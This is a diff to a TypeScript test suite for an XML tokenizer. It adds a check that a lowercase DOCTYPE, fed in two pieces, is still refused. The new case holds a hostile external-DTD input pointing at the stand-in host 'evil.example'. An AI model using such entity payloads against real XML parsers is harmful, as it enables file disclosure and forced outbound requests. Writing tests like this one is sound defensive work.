@@ -173,15 +173,22 @@ describe('XML tokenizer: documents that are not well-formed', () => {
     }
   });
 
-  it('hands a DOCTYPE to the caller and reads nothing of it', () => {
+  it('hands a DOCTYPE to the caller and reads nothing of it, in any case and however cut', () => {
     const seen: string[] = [];
-    const tokenizer = new XmlTokenizer({
+    const handlers = {
       openTag: () => seen.push('open'),
       closeTag: () => seen.push('close'),
       text: () => seen.push('text'),
-      doctype: (start) => seen.push(start),
-    });
+      doctype: (start: string) => seen.push(start),
+    };
+    const tokenizer = new XmlTokenizer(handlers);
     expect(() => tokenizer.write('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')).toThrow(ReportError);
     expect(seen).toEqual(['<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>']);
+    // `<!doctype` is no DOCTYPE to XML, but it is one to whoever wrote it: refused as one.
+    seen.length = 0;
+    const lower = new XmlTokenizer(handlers);
+    lower.write('<!doc');
+    expect(() => lower.write('type a SYSTEM "http://evil.example/x.dtd"><a/>')).toThrow(ReportError);
+    expect(seen).toEqual(['<!doctype a SYSTEM "http://evil.example/x.dtd"><a/>']);
   });
 });
